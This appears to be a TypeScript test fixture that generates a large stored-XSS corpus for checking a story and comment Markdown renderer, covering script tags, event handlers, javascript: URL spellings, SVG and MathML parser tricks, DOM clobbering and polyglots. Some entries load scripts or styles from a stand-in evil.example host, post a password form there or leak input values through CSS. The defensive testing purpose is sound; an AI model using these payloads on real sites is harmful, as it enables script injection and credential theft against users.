/**
 * Stored-XSS corpus for defensive tests of the story and comment renderer.
 *
 * Every entry is hostile input that an author could submit. Whatever the renderer does with it
 * (escape, drop or keep as plain text), its output must contain no script, no event handler, no
 * dangerous URL and no element outside the small Markdown allowlist. Payloads are inert stand-ins
 * (`alert(1)` and the like, reserved `.example` hosts). Entries are unique: the families below are
 * expanded and the final list is deduplicated.
 */

const words = (list: string, separator = " "): readonly string[] => list.split(separator);

const scriptTags: readonly string[] = [
  ...words(
    "script SCRIPT ScRiPt script\n script\t script\f script/x scr\0ipt \0script s\u200bcript " +
      "\u017fcript scr\u0131pt \u202escript xml:script",
  ).map((name) => `<${name}>alert(1)</${name}>`),
  // Encoded angle brackets, which would become tags if decoded once too often.
  ...words(
    "&lt;@&gt; &LT;@&GT; &#60;@&#62; &#x3c;@&#x3e; &#0000060@&#0000062 &amp;lt;@&amp;gt; %3C@%3E " +
      String.raw`%253C@%253E +ADw-@+AD4- \x3c@\x3e \u003c@\u003e \<@\> \\<@> <<@>> ` +
      "\uff1c@\uff1e \ufe64@\ufe65 \u2039@\u203a \ufeff<@> \u00a0<@>",
  ).map((tag) => `${tag.replace("@", "script")}alert(1)${tag.replace("@", "/script")}`),
  "<script>alert(1)",
  "<script src=//evil.example/x.js></script>",
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script type="module">import "//evil.example/x.js"</script>',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
];

/** Sequences that would close the raw-text context (such as a script) in which a page might print the text. */
const contextBreakouts: readonly string[] = words(
  "</script> </SCRIPT\t> </title> </textarea> </style> </noscript> </template> </iframe> </xmp> " +
    "</select> </math> </svg> </p> </body> --> --!> <!-- <!--> <!-- <![CDATA[ ]]> <?xml?> <!DOCTYPE\f>",
).flatMap((close) => [`${close}<script>alert(1)</script>`, `${close}<img src=x onerror=alert(1)>`]);

const scriptStrings: readonly string[] = [
  ...words(
    `"};alert(1);// ';alert(1);// \`;alert(1);// "-alert(1)-" '-alert(1)-' <!--<script>alert(1)// ` +
      String.raw`\";alert(1);// \';alert(1);// \\";alert(1);// */alert(1)/*`,
  ),
  "\u2028alert(1)\u2028",
  "\u2029alert(1)//\u2029",
  '"\u2028</script>\u2029<script>alert(1)//',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
];

const handlerTags: readonly string[] = words(
  "<img src=x @>|<svg @>|<body @>|<details open @>|<input autofocus @>|<video src=x @>|" +
    "<p @>x</p>|<em @>x</em>|<a href=# @>x</a>|<tintero-x tabindex=1 @>",
  "|",
);

const handlers: readonly string[] = words(
  "onload onerror onfocus onclick onmouseover ontoggle onpointerenter onanimationstart ONERROR",
);

const elementHandlers: readonly string[] = [
  ...handlerTags.flatMap((tag) => handlers.map((name) => tag.replace("@", `${name}=alert(1)`))),
  ...words(
    "onabort onauxclick onbeforeinput onbeforematch onbeforetoggle onblur oncanplay onchange " +
      "oncontentvisibilityautostatechange oncopy oncut ondrag ondrop onfocusin onfocusout " +
      "onformdata onhashchange oninput oninvalid onkeydown onmessage onpageshow onpaste " +
      "onpointerrawupdate onpopstate onscroll onscrollend onsearch onselectionchange onsubmit " +
      "ontouchstart ontransitionend onunhandledrejection onwebkitanimationend onwheel",
  ).map((name) => `<div contenteditable ${name}="alert(1)">x</div>`),
  "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror\n=\nalert(1)>",
  "<img src=x\0onerror=alert(1)>",
  "<img src=`x`onerror=alert(1)>",
  "<img src=x onerror=alert`1`>",
  '<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">',
  "<img src=x onerror=alert(1)//",
  '<img """><img src=x onerror=alert(1)>">',
  "<video><source onerror=alert(1)></video>",
  "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>",
];

const elements: readonly string[] = [
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=data:,alert(1) /></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=onmouseover to=alert(1)></svg>",
  "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x' /></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
  "<math><a xlink:href=javascript:alert(1)>x</a></math>",
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  ...words("noscript noembed noframes xmp textarea template iframe title style").map(
    (tag) => `<${tag}><p title="</${tag}><img src=x onerror=alert(1)>">`,
  ),
  "<template shadowrootmode=open><script>alert(1)</script></template>",
  "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(1)>'>",
  "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
  "<table><td background=javascript:alert(1)>x</td></table>",
  "<iframe src=//evil.example></iframe>",
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  "<object data=data:text/html,<script>alert(1)</script>></object>",
  "<embed src=//evil.example/x.swf allowscriptaccess=always>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta charset="utf-7">+ADw-img src=x onerror=alert(1)+AD4-',
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=preload as=script href=//evil.example/x.js>",
  "<form action=//evil.example><input name=password><button>Entrar</button></form>",
  "<input form=login formaction=//evil.example type=image src=x>",
  "<?xml-stylesheet href=javascript:alert(1)?>",
  '<html xmlns:x="urn:x"><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  "<style>@import '//evil.example/x.css';</style>",
  "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
  '<p style="width:expression(alert(1))">x</p>',
  String.raw`<p style="xss:\65xpression(alert(1))">x</p>`,
  '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',
  '<p style="background:url(&#106;avascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=alert(1)>x</b>",
];

const clobbering: readonly string[] = [
  ...words(
    "body cookie forms location getElementById __remixContext __proto__ constructor",
  ).flatMap((name) => [`<a id=${name} href=//evil.example>x</a>`, `<img name=${name}>`]),
  "<form id=x><input name=attributes><input name=parentNode></form>",
  "<a id=config><a id=config name=url href=//evil.example>x</a>",
  "# Capítulo {#location onclick=alert(1)}",
];

/** Spellings of active URL schemes: casing, control characters, entities, escapes, look-alikes. */
const urls: readonly string[] = [
  ...words(
    "javascript:alert(1) JaVaScRiPt:alert(1) java\tscript:alert(1) java\nscript:alert(1) " +
      "java\r\nscript:alert(1) java\0script:alert(1) \u0001javascript:alert(1) " +
      "\u200bjavascript:alert(1) \u202ejavascript:alert(1) javascript\t:alert(1) " +
      "java\u017fcript:alert(1) javascript\uff1aalert(1) \u00a0javascript:alert(1)",
  ),
  ...words(
    "javascript&colon;alert(1) javascript&#58;alert(1) javascript&#x3A;alert&lpar;1&rpar; " +
      "&#x6a;avascript:alert(1) &#0000106;avascript:alert(1) java&Tab;script:alert(1) " +
      "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1) java&#x0;script:alert(1) " +
      "java&NewLine;script:alert(1) &#1;javascript:alert(1) javascript%3Aalert(1) " +
      String.raw`%6aavascript:alert(1) javascript\:alert(1) \u006aavascript:alert(1)`,
  ),
  ...words(
    "javascript://evil.example/%0aalert(1) vbscript:MsgBox(1) VBSCRIPT&colon;MsgBox(1) " +
      "livescript:alert(1) data:text/html,<script>alert(1)</script> feed:javascript:alert(1) " +
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== view-source:javascript:alert(1) " +
      "data:image/svg+xml,<svg/onload=alert(1)> DATA&colon;text/html,<svg/onload=alert(1)> " +
      "blob:https://tintero.example/0 filesystem:https://tintero.example/x jar:https://evil.example!/x",
  ),
];

const urlCarriers: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<iframe src='${url}'></iframe>`,
  (url) => `<form><button formaction="${url}">x</button></form>`,
  (url) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url) => `[x](${url})`,
  (url) => `[x](<${url}> "título")`,
  (url) => `![x](${url})`,
  (url) => `<${url}>`,
  (url) => `[x]\n\n[x]: ${url} "título"`,
  (url) => `![x][y]\n\n[y]: <${url}>`,
];

const schemeUrls: readonly string[] = urls.flatMap((url) => urlCarriers.map((wrap) => wrap(url)));

/** Attribute breakouts placed in every slot where Markdown copies text into an attribute. */
const attributeBreakouts: readonly string[] = [
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"onmouseover=alert(1) x="',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  "&quot; onfocus=alert(1) autofocus x=&quot;",
  "&#34;&#62;<script>alert(1)</script>",
  String.raw`\"><script>alert(1)</script>`,
  "` onmouseover=alert(1) `",
].flatMap((text) => [
  text,
  `[x](https://a.example/${text})`,
  `[x](https://a.example "${text}")`,
  `[x](https://a.example '${text}')`,
  `![${text}](https://a.example/x.png)`,
  `[x]\n\n[x]: https://a.example (${text})`,
  `<https://a.example/${text}>`,
]);

const img = "<img src=x onerror=alert(1)>";

const markdown: readonly string[] = [
  ...["> ", "- ", "1. ", "# ", "> - > ", "    ", "\t", "| a |\n|---|\n| "].map((p) => p + img),
  ...["**", "_", "~~", "`", "``", "***", "==", "^", "||", "$$"].map((mark) => mark + img + mark),
  `\`\`\`html\n${img}\n\`\`\``,
  `\`\`\`"><img/src=x/onerror=alert(1)>\nx\n\`\`\``,
  `\`\`\`js" onmouseover="alert(1)\nx\n\`\`\``,
  `\`\`\`\n${img}`,
  `\`${img}\`\`${img}`,
  `<div>\n\n${img}\n\n</div>`,
  `<!-- -->${img}`,
  `Título ${img}\n=====`,
  `[${img}](https://a.example)`,
  `[![x](x "${img}")](javascript:alert(1))`,
  "[a[b](https://a.example)](javascript:alert(1))",
  "[a](javascript:alert(1)//](https://a.example)",
  "[a](https://a.example)](javascript:alert(1))",
  "![a](![b](x onerror=alert(1)))",
  "![<script>alert(1)</script>][x]\n\n[x]: x",
  "[<script>alert(1)</script>]: javascript:alert(1)\n[<script>alert(1)</script>]",
  "[a]: https://a.example\n[a]: javascript:alert(1)\n\n[a]",
  "[a](\\javascript:alert(1))",
  '[a](x "\\" onmouseover=\\"alert(1)")',
  "[a](x){onclick=alert(1)}",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  "<javascript:alert(1)@evil.example>",
  "https://a.example/'onmouseover='alert(1)",
  "\u202e>tpircs/<)1(trela>tpircs<",
  "\u2066<script>\u2069alert(1)\u2066</script>\u2069",
];

const templatesAndPolyglots: readonly string[] = [
  ...["alert(1)", "constructor.constructor('alert(1)')()", "7*7"].flatMap((code) =>
    ["{{@}}", "${@}", "#{@}", "<%= @ %>", "{%@%}", "{{{@}}}", "[[@]]", "*{@}"].map((template) =>
      template.replace("@", code),
    ),
  ),
  '<p ng-app ng-init="$eval.constructor(1)()">x</p>',
  '<p v-html="alert(1)" x-init="alert(1)" hx-on:load="alert(1)">x</p>',
  "<esi:include src=//evil.example/x />",
  '<!--#exec cmd="id"-->',
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/--!>" +
    "\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
  '\'">><marquee><img src=x onerror=alert(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=alert(1)>',
  "\"'--></title></style></textarea></script><svg/onload=alert(1)>",
  "javascript://'/</title></style></textarea></script>--><p\" onclick=alert(1)//>*/alert(1)/*",
  '[x](javascript:/*"onclick=alert(1)//\'"title="><svg/onload=alert(1)>*/alert(1))',
];

export const xssCorpus: readonly string[] = [
  ...new Set([
    ...scriptTags,
    ...contextBreakouts,
    ...scriptStrings,
    ...elementHandlers,
    ...elements,
    ...clobbering,
    ...schemeUrls,
    ...attributeBreakouts,
    ...markdown,
    ...templatesAndPolyglots,
  ]),
];
